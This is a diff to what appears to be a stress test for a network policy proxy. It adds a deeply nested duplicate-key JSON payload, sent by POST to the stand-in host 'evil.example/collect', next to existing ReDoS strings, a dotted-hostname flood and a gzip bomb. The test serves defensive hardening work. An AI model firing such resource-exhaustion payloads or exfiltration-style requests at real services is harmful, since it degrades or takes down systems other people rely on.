@@ -2,6 +2,7 @@
 // with the default policy; a hostile agent throws at it, all at once:
 //   - ReDoS-shaped input: a GraphQL document of one 900 KB name (a backtracking pattern over it
 //     takes hours), hosts of thousands of dots;
+//   - JSON of 1,000 duplicate keys nested 200,000 arrays deep (400 KB);
 //   - a stream of denied requests with 1 MiB JSON bodies of small objects (each one's parsed
 //     description is ~10x its size: the studio's live buffer must not keep them);
 //   - a stacked gzip bomb (`gzip, gzip`, 1 GiB of zeros in a few KiB) from a host that got a
@@ -159,6 +160,8 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
   const smallObjects = (n: number): Buffer => Buffer.from(JSON.stringify({ rows: Array.from({ length: n }, (_, i) => ({ i })) }));
   const upload = smallObjects(85_000); // just under the 1 MiB capture cap: parsed whole
   const redos = Buffer.from(JSON.stringify({ query: `mutation { ${'a'.repeat(900_000)} }` }));
+  // 400 KB: 1,000 duplicate keys under 200,000 nested arrays (a full path per duplicate was ~10^9 parts).
+  const deepDuplicates = Buffer.from(`${'['.repeat(200_000)}{${Array.from({ length: 1000 }, () => '"a":1').join(',')}}${']'.repeat(200_000)}`);
 
   let bombBytes = 0;
   let bombEnded = '';
@@ -167,6 +170,7 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
   const hostileDone = (async () => {
     for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
     fire(`https://a${'.'.repeat(3000)}b.example/`);
+    for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
     fire('https://api.github.com/repos/acme/bomb', {
       onResponse: (res) => {
         bombStatus = res.statusCode ?? 0;
